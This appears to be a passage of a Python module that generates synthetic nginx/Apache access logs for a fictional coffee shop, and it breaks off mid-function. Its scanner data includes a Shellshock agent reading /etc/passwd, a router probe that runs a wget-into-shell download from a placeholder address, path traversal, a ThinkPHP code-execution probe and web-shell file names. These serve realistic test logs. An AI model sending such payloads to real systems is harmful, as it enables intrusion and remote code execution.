"""The traffic of a small coffee shop (``www.example.com``): the model behind the
sample logs.

Browsers, a mobile app, crawlers, scripts, scanners and health checks visit a
:class:`Site`, whose event methods return finished :class:`~logfactory.record.Request`
records; :func:`traffic` draws events at diurnal times over a :class:`Window`,
:func:`every` schedules them, :func:`inject_outage` and :func:`scanner_burst`
add the trouble. All randomness comes from a :class:`~logfactory.dice.Dice`.

>>> from datetime import UTC
>>> from logfactory.times import at
>>> site = Site(Dice(3), server="nginx")
>>> window = Window(at("2026-11-20", "12:00:00", UTC), at("2026-11-20", "13:00:00", UTC), UTC)
>>> records = traffic(site.dice, window, Weighted([(site.visit, 1)]), 50)
>>> len(records) >= 50 and all(window.start <= r.ts < window.end for r in records)
True
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import timezone

from logfactory.dice import Dice, Weighted
from logfactory.record import Attempt, Request
from logfactory.times import local_time

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
BROWSER_AGENTS = Weighted(
    [
        (CHROME, 30),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
            10,
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
            8,
        ),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 7),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", 2),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
            8,
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
            18,
        ),
        (
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
            14,
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
            3,
        ),
    ]
)
APP_AGENTS = Weighted(
    [
        ("ExampleShop/5.12.0 (iPhone; iOS 18.7; Scale/3.00)", 5),
        ("ExampleShop/5.11.2 (iPhone; iOS 17.6.1; Scale/3.00)", 1),
        ("okhttp/4.12.0", 4),
    ]
)
# Agents with double quotes in them: nginx writes each " as \x22, Apache as \".
QUOTED_AGENT = f'"{CHROME}"'  # a scraper whose User-Agent header includes the quotes
SHELLSHOCK_AGENT = '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"'
SCRAPER_AGENT = (
    'Mozilla/5.0 (X11; Linux x86_64) "PriceWatch/2.1" (+https://pricewatch.example.net/bot)'
)

IPV4_NETS = Weighted(
    [
        ("192.0.2.", 3),
        ("198.51.100.", 3),
        ("203.0.113.", 2),
        ("81.2.69.", 1),
        ("89.160.20.", 1),
        ("216.160.83.", 1),
        ("175.16.199.", 1),
        ("2.125.160.", 1),
    ]
)
OFFICE_NAT = "198.51.100.23"  # many visitors behind one address: the top client

EXTERNAL_REFERERS = Weighted(
    [
        ("", 45),
        ("https://www.google.com/", 30),
        ("https://www.bing.com/", 5),
        ("https://duckduckgo.com/", 4),
        ("https://www.google.fr/", 3),
        ("https://www.ecosia.org/", 1),
        ("https://t.co/kX93bLq2Ze", 2),
        ("https://www.facebook.com/", 2),
        ("android-app://com.google.android.gm/", 1),
        ("https://news.ycombinator.com/item?id=46012345", 1),
        ("https://www.google.com/search?q=caf%C3%A9+cr%C3%A8me+beans", 1),
    ]
)

PRODUCTS = (
    (1042, "espresso-machine-x200"),
    (1043, "burr-grinder-g2"),
    (1107, "caf%C3%A9-cr%C3%A8me-beans"),
    (1108, "ethiopia-yirgacheffe-250g"),
    (1115, "m%C3%BCsli-bio-500g"),
    (1201, "french-press-1l"),
    (1202, "milk-frother-mf3"),
    (1230, "pour-over-kettle"),
    (1301, "descaler-tabs-x20"),
    (1302, "barista-tamper-58mm"),
    (1410, "gift-card"),
    (1411, "cold-brew-bottle"),
)
PRODUCT_IDS = {f"/products/{slug}": pid for pid, slug in PRODUCTS}
SEARCHES = (
    "caf%C3%A9",
    "espresso+machine",
    "grinder",
    "m%C3%BCsli+bio",
    "%E5%92%96%E5%95%A1",
    "%22french+press%22",
    "cr%C3%A8me+br%C3%BBl%C3%A9e",
    "decaf",
    "kettle",
)
PAGES = Weighted(
    [
        ("/", 30),
        ("/products", 10),
        *((f"/products/{slug}", 4) for _, slug in PRODUCTS),
        ("/category/coffee", 6),
        ("/category/kitchen?sort=price&page=2", 4),
        ("/search?q=caf%C3%A9&page=2", 3),
        ("/search?q=espresso+machine", 4),
        ("/search?q=m%C3%BCsli+bio", 2),
        ("/search?q=%E5%92%96%E5%95%A1", 1),
        ("/search?q=%22french+press%22&sort=rating", 1),
        ("/blog/", 2),
        ("/blog/2026/11/winter-brewing-guide", 5),
        ("/about", 2),
        ("/contact", 2),
        ("/%D0%BA%D0%BE%D0%BD%D1%82%D0%B0%D0%BA%D1%82%D1%8B", 0.5),
        ("/cart", 5),
        ("/checkout", 2),
        ("/login", 3),
        ("/account", 2),
        ("/account/orders", 1),
        ("/products?utm_source=newsletter&utm_medium=email&utm_campaign=black-friday-2026", 3),
    ]
)
PAGES_PER_VISIT = Weighted([(1, 40), (2, 25), (3, 15), (4, 10), (5, 6), (7, 4)])

CORE_ASSETS = (
    "/static/app.3f9a.js",
    "/static/vendor.8c1d.js",
    "/static/app.51be.css",
    "/static/fonts/inter-var.woff2",
)
SITE_IMAGES = ("/images/logo.svg", "/images/hero-winter.jpg", "/images/icons/cart.svg")
STATIC_SIZES = {
    "/static/app.3f9a.js": 184213,
    "/static/vendor.8c1d.js": 291877,
    "/static/app.51be.css": 48210,
    "/static/fonts/inter-var.woff2": 71256,
    "/images/logo.svg": 3127,
    "/images/hero-winter.jpg": 214883,
    "/images/icons/cart.svg": 911,
    "/favicon.ico": 15086,
    "/robots.txt": 67,
    "/sitemap.xml": 18422,
    "/manifest.webmanifest": 512,
    "/media/x200-demo.mp4": 18874368,
    "/downloads/catalogue-2026.pdf": 2457600,
}

# Bots: name, agent, address prefixes (their published crawler ranges).
BOTS = Weighted(
    [
        (
            (
                "Googlebot",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ("66.249.66.", "66.249.68."),
            ),
            30,
        ),
        (
            (
                "Googlebot smartphone",
                "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                ("66.249.66.", "66.249.79."),
            ),
            25,
        ),
        (
            (
                "bingbot",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                ("40.77.167.", "157.55.39."),
            ),
            20,
        ),
        (
            (
                "GPTBot",
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
                ("20.171.207.",),
            ),
            15,
        ),
        (
            (
                "AhrefsBot",
                "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
                ("54.36.148.", "5.39.109."),
            ),
            15,
        ),
    ]
)
OLD_URLS = ("/shop/espresso-x100", "/shop/index.php?id=77", "/products/espresso-machine-x100")

SCANNER_AGENTS = Weighted(
    [
        ("Mozilla/5.0 zgrab/0.x", 3),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
            4,
        ),
        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 2),
        ("", 2),
        (SHELLSHOCK_AGENT, 1),
        (
            "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com",
            1,
        ),
    ]
)
SCANNER_ADDRS = ("192.0.2.250", "203.0.113.77", "198.51.100.201", "2001:db8:bad:1::66")
# method, target, protocol, status on nginx (444 = closed without answer), status on Apache.
PROBES = (
    ("GET", "/wp-login.php", "HTTP/1.1", 404, 404),
    ("POST", "/xmlrpc.php", "HTTP/1.1", 404, 404),
    ("GET", "/.env", "HTTP/1.1", 444, 403),
    ("GET", "/.git/config", "HTTP/1.1", 403, 403),
    ("GET", "/phpmyadmin/index.php", "HTTP/1.1", 404, 404),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "HTTP/1.1", 404, 404),
    (
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://192.0.2.99/t%7Csh%60)",
        "HTTP/1.1",
        404,
        404,
    ),
    (
        "GET",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
        "HTTP/1.1",
        404,
        404,
    ),
    ("GET", "/server-status", "HTTP/1.1", 403, 403),
    ("TRACE", "/", "HTTP/1.1", 405, 405),
    ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "HTTP/1.1", 400, 400),
    ("CONNECT", "www.google.com:443", "HTTP/1.1", 400, 405),
    ("GET", "/actuator/env", "HTTP/1.1", 404, 404),
    ("GET", "/owa/auth/logon.aspx", "HTTP/1.0", 404, 404),
    ("POST", "/boaform/admin/formLogin", "HTTP/1.1", 404, 404),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm", "HTTP/1.1", 200, 200),
    (
        "GET",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php",
        "HTTP/1.0",
        404,
        404,
    ),
)
SHELL_NAMES = (
    "admin", "shell", "wso", "alfa", "up", "config", "install", "info", "phpinfo", "db", "cmd",
    "x", "sx", "about", "radio", "wp-conflg", "lock360", "file", "class", "content", "ws",
    "mar", "bypass", "gecko", "tiny", "moon", "xmrlpc", "index", "autoload_classmap", "chosen",
)  # fmt: skip
SHELL_DIRS = (
    "", "", "", "/wp-includes", "/wp-content/uploads", "/wp-admin/css", "/images",
    "/.well-known", "/cgi-bin", "/assets", "/vendor", "/admin",
)  # fmt: skip

APP_POOL = ("10.0.1.11:8080", "10.0.1.12:8080", "10.0.1.13:8080")
SEARCH_POOL = ("10.0.2.21:8080", "10.0.2.22:8080")
PAYMENTS_POOL = ("10.0.1.13:8080", "10.0.1.13:8080", "10.0.1.12:8080")  # .13 is primary
FILES_UPSTREAM = "10.0.3.5:9000"

# Default error pages: body bytes as the server sends them.
NGINX_PAGES = {301: 169, 302: 145, 400: 157, 403: 153, 404: 153, 405: 157, 429: 169, 500: 177, 502: 157, 503: 197, 504: 167}  # fmt: skip
APACHE_PAGES = {301: 235, 302: 208, 400: 226, 401: 381, 403: 199, 404: 196, 405: 223, 408: 221, 429: 209, 500: 528, 502: 341, 503: 299, 504: 247}  # fmt: skip

# Share of the day's traffic per hour (local time); minutes are interpolated.
HOURLY = (30, 20, 14, 10, 9, 12, 22, 40, 62, 80, 90, 95, 92, 96, 100, 104, 100, 92, 84, 80, 78, 70, 56, 42)  # fmt: skip


# ------------------------------------------------------------------ clients


@dataclass(frozen=True)
class Client:
    addr: str
    agent: str
    protocol: str = "HTTP/2.0"


def ipv4(dice: Dice) -> str:
    return f"{IPV4_NETS.draw(dice)}{dice.between(2, 254)}"


def ipv6(dice: Dice) -> str:
    """Canonical (RFC 5952) text: the documentation prefix or an ISP's privacy address."""
    if dice.chance(0.5):
        a, b, c = (dice.between(1, 0xFFFF) for _ in range(3))
        return f"2001:db8:{a:x}:{b:x}::{c:x}"
    return "2a01:e0a:" + ":".join(f"{dice.between(1, 0xFFFF):x}" for _ in range(6))


def client_addr(dice: Dice, ipv6_share: float) -> str:
    return ipv6(dice) if dice.chance(ipv6_share) else ipv4(dice)


def browser_client(dice: Dice) -> Client:
    addr = OFFICE_NAT if dice.chance(0.04) else client_addr(dice, 0.1)
    protocol = "HTTP/2.0" if dice.chance(0.85) else "HTTP/1.1"
    return Client(addr, BROWSER_AGENTS.draw(dice), protocol)


def app_client(dice: Dice) -> Client:
    return Client(client_addr(dice, 0.25), APP_AGENTS.draw(dice), "HTTP/2.0")


# ------------------------------------------------------------------ the site


@dataclass(frozen=True)
class Degradation:
    """An incident window: one upstream is picked far more often, and all are slower."""

    start: int
    end: int
    failing: str
    slowdown: int


class Site:
    """Who visits the shop, what they ask for, and what the server answers.

    Event methods take a time and return finished :class:`Request` objects.
    """

    def __init__(
        self,
        dice: Dice,
        *,
        server: str,
        host: str = "www.example.com",
        api_host: str = "www.example.com",
        visitors: int = 900,
        apps: int = 300,
    ) -> None:
        self.dice = dice
        self.server = server  # "nginx" or "apache"
        self.host = host
        self.api_host = api_host
        self.visitors = Weighted((browser_client(dice), 1 / (rank + 8)) for rank in range(visitors))
        self.apps = Weighted((app_client(dice), 1 / (rank + 5)) for rank in range(apps))
        self.degradations: list[Degradation] = []

    # ---- helpers

    def new_request(self, ts: int, client: Client, target: str, **kw: object) -> Request:
        kw.setdefault("protocol", client.protocol)
        kw.setdefault("host", self.host)
        return Request(ts=ts, client=client.addr, agent=client.agent, target=target, **kw)  # type: ignore[arg-type]

    def _api(
        self, ts: int, client: Client, target: str, page_url: str, **kw: object
    ) -> list[Request]:
        """An XHR from a page; cross-origin writes are preceded by a CORS preflight."""
        out = []
        method = str(kw.get("method", "GET"))
        if self.api_host != self.host and method not in ("GET", "HEAD"):
            out.append(
                self.new_request(
                    ts,
                    client,
                    target,
                    method="OPTIONS",
                    status=204,
                    kind="api",
                    referer=page_url,
                    host=self.api_host,
                )
            )
        kw.setdefault("kind", "api")
        out.append(self.new_request(ts, client, target, referer=page_url, host=self.api_host, **kw))
        return out

    # ---- events

    def visit(self, ts: int) -> list[Request]:
        """A browser session: landing page, assets, XHRs, a few more pages."""
        d = self.dice
        client = self.visitors.draw(d)
        returning = d.chance(0.4)
        logged_in = d.chance(0.25)
        referer = EXTERNAL_REFERERS.draw(d)
        page = PAGES.draw(d)
        out: list[Request] = []
        t = ts
        for i in range(PAGES_PER_VISIT.draw(d)):
            out += self.page_view(t, client, page, referer, i == 0, returning, logged_in)
            referer = f"https://{self.host}{page}"
            page = PAGES.draw(d)
            t += d.between(5, 120)
        if logged_in and d.chance(0.15):  # a websocket, logged when it closes
            out.append(
                self.new_request(
                    t + d.between(20, 900),
                    client,
                    "/ws/notifications",
                    status=101,
                    kind="ws",
                    protocol="HTTP/1.1",
                    referer=referer,
                )
            )
        return [self.finish(r) for r in out]

    def page_view(
        self,
        t: int,
        client: Client,
        page: str,
        referer: str,
        first: bool,
        returning: bool,
        logged_in: bool,
    ) -> list[Request]:
        d = self.dice
        path = page.split("?", 1)[0]
        status = 200
        if path.startswith("/account") and not logged_in:
            status = 302
        elif d.chance(0.008):
            status = 404
        elif d.chance(0.005):
            status = 301
        elif returning and not first and d.chance(0.06):
            status = 304
        out = [self.new_request(t, client, page, status=status, referer=referer)]
        if status == 302:
            out.append(self.new_request(t + 1, client, "/login?next=%2Faccount", referer=referer))
            return out
        if status != 200:
            return out
        url = f"https://{self.host}{page}"
        # Hashed assets are cached for a year: only new visitors fetch them. Images are
        # revalidated (304) now and then.
        assets = list(CORE_ASSETS) if first and not returning else []
        images = list(SITE_IMAGES[:1]) if first else []
        if path in PRODUCT_IDS:
            images.append(f"/images/products/{PRODUCT_IDS[path]}-640w.webp")
        elif path == "/":
            images.append(SITE_IMAGES[1])
        elif path in ("/products", "/category/coffee"):
            images += [
                f"/images/products/{pid}-320w.webp" for pid, _ in PRODUCTS[: d.between(1, 4)]
            ]
        for asset in assets:
            out.append(self.new_request(t + d.below(2), client, asset, kind="static", referer=url))
        for image in images:
            if returning and d.chance(0.6):
                continue
            status = 304 if returning else 200
            out.append(
                self.new_request(
                    t + d.below(3), client, image, status=status, kind="static", referer=url
                )
            )
        if first and not returning and d.chance(0.8):
            out.append(self.new_request(t + 1, client, "/favicon.ico", kind="static", referer=url))
        if first and not returning and d.chance(0.05):
            out.append(
                self.new_request(t + 1, client, "/apple-touch-icon.png", status=404, kind="static")
            )
        out += self.xhr(t + d.between(0, 2), client, page, url, first, logged_in)
        return out

    def xhr(
        self, t: int, client: Client, page: str, url: str, first: bool, logged_in: bool
    ) -> list[Request]:
        """The API calls a page makes."""
        d = self.dice
        path = page.split("?", 1)[0]
        out: list[Request] = []
        if first:
            out += self._api(t, client, "/api/v1/cart", url)
            if logged_in or d.chance(0.08):
                out += self._api(
                    t, client, "/api/v1/session", url, status=200 if logged_in else 401
                )
        if path in PRODUCT_IDS:
            pid = PRODUCT_IDS[path]
            out += self._api(t, client, f"/api/v1/products/{pid}/reviews?page=1", url)
            if d.chance(0.12):
                out += self._api(t, client, f"/api/v1/recommendations?for={pid}&limit=8", url)
            if d.chance(0.15):
                ok = not d.chance(0.03)
                out += self._api(
                    t + d.between(3, 40),
                    client,
                    "/api/v1/cart/items",
                    url,
                    method="POST",
                    status=201 if ok else 400,
                )
            if pid == 1042 and d.chance(0.25):  # the demo video, fetched in ranges
                for _ in range(d.between(1, 3)):
                    t += d.between(1, 20)
                    out.append(
                        self.new_request(
                            t,
                            client,
                            "/media/x200-demo.mp4",
                            status=206,
                            kind="media",
                            referer=url,
                            size=d.between(65536, 2097152),
                        )
                    )
        elif path.startswith("/search"):
            q = page.split("q=", 1)[1].split("&", 1)[0]
            out += self._api(t, client, f"/api/v1/search?q={q}&page=1", url)
        elif path == "/cart" and d.chance(0.4):
            item = f"/api/v1/cart/items/{d.between(88000, 88999)}"
            if d.chance(0.5):
                out += self._api(t + d.between(2, 30), client, item, url, method="PUT")
            else:
                out += self._api(
                    t + d.between(2, 30),
                    client,
                    item,
                    url,
                    method="DELETE",
                    status=204 if d.chance(0.95) else 404,
                )
        elif path == "/checkout" and d.chance(0.6):
            ok = not d.chance(0.05)
            t += d.between(20, 120)
            out += self._api(
                t, client, "/api/v1/checkout", url, method="POST", status=201 if ok else 400
            )
            if ok:
                order = d.between(12000, 13999)
                out.append(
                    self.new_request(
                        t + 1, client, f"/checkout/confirmation?order={order}", referer=url
                    )
                )
        elif path == "/login" and d.chance(0.5):
            status = 302 if d.chance(0.85) else 200
            out.append(
                self.new_request(
                    t + d.between(5, 30),
                    client,
                    "/login",
                    method="POST",
                    status=status,
                    referer=url,
                )
            )
        elif path == "/about" and d.chance(0.1):
            out.append(
                self.new_request(
                    t + d.between(2, 30),
                    client,
                    "/downloads/catalogue-2026.pdf",
                    kind="media",
                    referer=url,
                )
            )
        return out

    def app_session(self, ts: int) -> list[Request]:
        """The mobile app: JSON API calls and product images, no referers."""
        d = self.dice
        client = self.apps.draw(d)
        out: list[Request] = []
        t = ts

        def call(target: str, **kw: object) -> None:
            kw.setdefault("kind", "api")
            out.append(self.new_request(t, client, target, host=self.api_host, **kw))

        call("/api/v1/session", status=200 if d.chance(0.9) else 401)
        for _ in range(d.between(1, 4)):
            t += d.between(2, 40)
            pid, _slug = d.pick(PRODUCTS)
            if d.chance(0.4):
                call(f"/api/v1/products?category=coffee&limit=24&offset={24 * d.below(4)}")
            call(f"/api/v1/products/{pid}")
            call(
                f"/images/products/{pid}-640w.webp",
                kind="static",
                status=304 if d.chance(0.3) else 200,
            )
        if d.chance(0.25):
            t += d.between(5, 60)
            call("/api/v1/cart/items", method="POST", status=201)
            if d.chance(0.5):
                t += d.between(20, 120)
                order = d.between(12000, 13999)
                call("/api/v1/orders", method="POST", status=201)
                t += d.between(2, 15)
                declined = d.chance(0.04)
                call("/api/v1/payments", method="POST", status=400 if declined else 201)
                t += d.between(1, 5)
                call(f"/api/v1/orders/{order}")
        if d.chance(0.1):
            call(f"/api/v1/orders/{d.between(12000, 13999)}", status=200 if d.chance(0.8) else 404)
        if d.chance(0.04):
            call("/downloads/catalogue-2026.pdf", kind="media")
        return [self.finish(r) for r in out]

    def crawl(self, ts: int) -> list[Request]:
        """A search-engine or AI crawler fetching a few pages."""
        d = self.dice
        _name, agent, prefixes = BOTS.draw(d)
        client = Client(
            f"{d.pick(prefixes)}{d.between(1, 254)}",
            agent,
            "HTTP/1.1" if d.chance(0.7) else "HTTP/2.0",
        )
        out: list[Request] = []
        t = ts
        if d.chance(0.25):
            out.append(self.new_request(t, client, "/robots.txt", kind="static"))
            t += d.between(1, 5)
        if d.chance(0.1):
            out.append(
                self.new_request(
                    t, client, "/sitemap.xml", kind="static", status=304 if d.chance(0.3) else 200
                )
            )
            t += d.between(1, 5)
        for _ in range(d.between(1, 5)):
            if d.chance(0.08):
                out.append(
                    self.new_request(t, client, d.pick(OLD_URLS), status=d.pick((301, 404, 404)))
                )
            else:
                r = d.unit()
                status = 304 if r < 0.06 else 404 if r < 0.09 else 200
                out.append(self.new_request(t, client, PAGES.draw(d), status=status))
            t += d.between(2, 40)
        return [self.finish(r) for r in out]

    def script(self, ts: int) -> list[Request]:
        """curl, python-requests, Go and wget: API users, a rate-limited scraper, a partner."""
        d = self.dice
        out: list[Request] = []
        kind = d.below(6)
        if kind == 0:  # a scraper paging through products, rate limited after a while
            client = Client("203.0.113.50", "python-requests/2.32.3", "HTTP/1.1")
            for i in range(d.between(6, 30)):
                limited = i >= 10 and d.chance(0.5)
                out.append(
                    self.new_request(
                        ts + i,
                        client,
                        f"/api/v1/products?page={i + 1}&per_page=50",
                        kind="api",
                        status=429 if limited else 200,
                        host=self.api_host,
                    )
                )
        elif kind == 1:  # a developer with curl
            client = Client("192.0.2.44", "curl/8.5.0", d.pick(("HTTP/1.1", "HTTP/2.0")))
            for method, target, statuses in (
                ("GET", "/api/v1/orders/12345", (200, 200, 401, 404)),
                ("PUT", "/api/v1/orders/12345", (200, 200, 400, 403)),
                ("DELETE", "/api/v1/cart/items/88123", (204, 204, 404)),
                ("OPTIONS", "/api/v1/orders", (204, 405)),
                ("HEAD", "/", (200,)),
            )[: d.between(1, 5)]:
                out.append(
                    self.new_request(
                        ts,
                        client,
                        target,
                        method=method,
                        kind="api" if target != "/" else "page",
                        status=d.pick(statuses),
                        host=self.api_host,
                    )
                )
                ts += d.between(3, 90)
        elif kind == 2:  # a partner's integration polling orders
            client = Client("2001:db8:4::15", "Go-http-client/1.1", "HTTP/1.1")
            status = 401 if d.chance(0.08) else 200
            out.append(
                self.new_request(
                    ts,
                    client,
                    "/api/v1/orders?since=2026-11-20T00%3A00%3A00Z&limit=100",
                    kind="api",
                    status=status,
                    host=self.api_host,
                )
            )
        elif kind == 3:
            client = Client(ipv4(d), "Wget/1.21.4", "HTTP/1.1")
            out.append(self.new_request(ts, client, "/downloads/catalogue-2026.pdf", kind="media"))
        elif kind == 4:  # a price scraper whose agent has quotes in it
            client = Client("198.51.100.140", d.pick((QUOTED_AGENT, SCRAPER_AGENT)), "HTTP/1.1")
            for _ in range(d.between(1, 6)):
                out.append(
                    self.new_request(
                        ts,
                        client,
                        f"/products/{d.pick(PRODUCTS)[1]}",
                        status=200 if d.chance(0.9) else 404,
                    )
                )
                ts += d.between(1, 8)
        else:  # the admin area behind basic auth: first try without credentials
            client = browser_client(d)
            user = d.pick(("alice", "bob"))
            out.append(self.new_request(ts, client, "/admin/", status=401))
            wrong = d.chance(0.2)
            out.append(
                self.new_request(ts + 4, client, "/admin/", status=401 if wrong else 200, user=user)
            )
            if not wrong:
                out.append(
                    self.new_request(
                        ts + d.between(5, 60),
                        client,
                        "/admin/stats?range=7d",
                        user=user,
                        referer=f"https://{self.host}/admin/",
                    )
                )
        return [self.finish(r) for r in out]

    def probe(self, ts: int) -> list[Request]:
        """A vulnerability scanner trying a few well-known paths."""
        d = self.dice
        client = Client(d.pick(SCANNER_ADDRS), SCANNER_AGENTS.draw(d), "HTTP/1.1")
        out = []
        for _ in range(d.between(1, 5)):
            method, target, protocol, on_nginx, on_apache = d.pick(PROBES)
            status = on_nginx if self.server == "nginx" else on_apache
            kind = "page" if status == 200 else "probe"
            out.append(
                self.new_request(
                    ts, client, target, method=method, protocol=protocol, status=status, kind=kind
                )
            )
            ts += d.below(3)
        return [self.finish(r) for r in out]

    def health_check(self, ts: int) -> list[Request]:
        client = Client("10.0.0.5", "ELB-HealthChecker/2.0", "HTTP/1.1")
        return [self.finish(self.new_request(ts, client, "/healthz", kind="health"))]

    def uptime_check(self, ts: int) -> list[Request]:
        client = Client(
            self.dice.pick(("192.0.2.200", "192.0.2.201")),
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            "HTTP/1.1",
        )
        return [self.finish(self.new_request(ts, client, "/", method="HEAD"))]

    # ---- oddities that are valid lines

    def tls_handshake(self, ts: int, client: str) -> Request:
        """A TLS ClientHello sent to a plain-HTTP port: logged with status 400."""
        if self.server == "apache":
            raw = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        else:  # nginx's escape=json leaves bytes >= 0x80 raw, so keep them out of the JSON file
            raw = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03"
        r = Request(ts=ts, client=client, status=400, kind="junk", raw_request=raw, host="_")
        return self.finish(r)

    def empty_request(self, ts: int, client: str) -> Request:
        """A connection closed before a request line arrived: ``"-"``."""
        status = 400 if self.server == "nginx" else 408
        return self.finish(
            Request(ts=ts, client=client, status=status, kind="junk", raw_request=b"", host="_")
        )

    # ---- the server's side: sizes, timings, upstreams

    def finish(self, r: Request) -> Request:
        """Fill in what the server decides: baseline failures, body size, timing."""
        d = self.dice
        if r.status in (200, 201) and r.kind in ("page", "api") and not r.burst:
            x = d.unit()
            if x < 0.0025:
                r.status = 500
            elif x < 0.0035:
                r.status = 502
            elif x < 0.0042:
                r.status = 503
            elif x < 0.0048:
                r.status = 504
            elif x < 0.009 and self.server == "nginx":
                r.status = 499  # the client gave up
        elif (
            r.status in (200, 206)
            and r.kind in ("static", "media")
            and self.server == "nginx"
            and d.chance(0.004 if r.kind == "static" else 0.05)
        ):
            r.status, r.size = 499, None  # a client abandoned a download: no upstream
        if r.size is None:
            r.size = self.body_size(r)
        if r.raw_request == b"":
            r.header_bytes = 0
        else:
            r.header_bytes = d.between(140, 220) if r.status == 304 else d.between(180, 460)
        self.time_it(r)
        return r

    def body_size(self, r: Request) -> int:
        d = self.dice
        if r.status == 101:
            return d.between(400, 60000)  # websocket frames sent to the client
        if r.method == "HEAD" or r.status in (204, 304, 444, 499) or r.raw_request == b"":
            return 0
        pages = NGINX_PAGES if self.server == "nginx" else APACHE_PAGES
        if r.status >= 300:
            from_app = r.kind in ("page", "api") and r.status in (302, 400, 401, 404, 500, 503)
            if r.kind == "api" and from_app:
                return d.between(38, 160)
            if r.kind == "page" and r.status == 404 and from_app:
                return d.between(5200, 6900)
            if r.status == 302:
                return 0 if self.server == "nginx" else pages[302]
            return pages.get(r.status, 150)
        if r.path in STATIC_SIZES:
            return STATIC_SIZES[r.path]
        if r.path.startswith("/images/products/"):
            return 12000 + sum(r.path.encode()) * 61 % 50000
        if r.kind == "health":
            return 2
        if r.kind == "api":
            if r.method == "OPTIONS" or r.status == 204:
                return 0
            if r.path.startswith("/api/v1/products") and "?" in r.target:
                return d.between(6000, 14000)
            return d.between(60, 2400)
        return 7000 + sum(r.path.encode()) * 53 % 38000 + d.between(0, 600)

    def proxied(self, r: Request) -> bool:
        if r.path.startswith("/downloads/") and r.status in (200, 206):
            return True  # the app authorises, then X-Accel-Redirect to the file store
        if r.kind not in ("page", "api", "ws", "health") or r.raw_request is not None:
            return False
        if r.method == "OPTIONS" and r.status == 204:
            return False  # answered by nginx's CORS block
        return r.status not in (301, 405, 429, 444)

    def _degradation(self, ts: int) -> Degradation | None:
        for g in self.degradations:
            if g.start <= ts < g.end:
                return g
        return None

    def service_ms(self, r: Request) -> int:
        d = self.dice
        p = r.path
        if p == "/healthz":
            ms = d.between(1, 3)
        elif p.startswith("/api/v1/search") or p.startswith("/search"):
            ms = d.between(40, 420)
        elif r.method == "POST" and p.startswith(
            ("/api/v1/checkout", "/api/v1/payments", "/api/v1/orders")
        ):
            ms = d.between(180, 900)
        elif r.kind == "page":
            ms = d.between(25, 180)
        else:
            ms = d.between(2, 60)
        if d.chance(0.02):
            ms *= d.between(3, 12)
        return ms

    def pool(self, r: Request) -> Sequence[str]:
        if r.path.startswith("/api/v1/search"):
            return SEARCH_POOL
        if r.path.startswith("/api/v1/payments"):
            return PAYMENTS_POOL
        return APP_POOL

    def time_it(self, r: Request) -> None:
        """request_time, upstream_response_time and upstream_addr, as nginx would log them."""
        d = self.dice
        if not self.proxied(r):
            r.upstream = ()
            if r.status == 444 or r.raw_request is not None:
                r.request_ms = d.below(2) if r.raw_request is None else d.between(0, 5000)
            elif r.status == 499:
                r.request_ms = d.between(200, 8000)
            else:
                r.request_ms = (r.size or 0) // d.between(1000, 20000) + d.below(3)
            return
        incident = self._degradation(r.ts)
        pool = self.pool(r)
        addr = d.pick(pool)
        if incident and d.chance(0.6):
            addr = incident.failing  # least_conn keeps feeding the backend that fails fast
        if r.status == 101:
            ms = d.between(20000, 900000)
            r.upstream = (((addr, ms),),)
            r.request_ms = ms + d.below(3)
            return
        if r.status == 499:
            r.request_ms = d.between(1500, 20000)
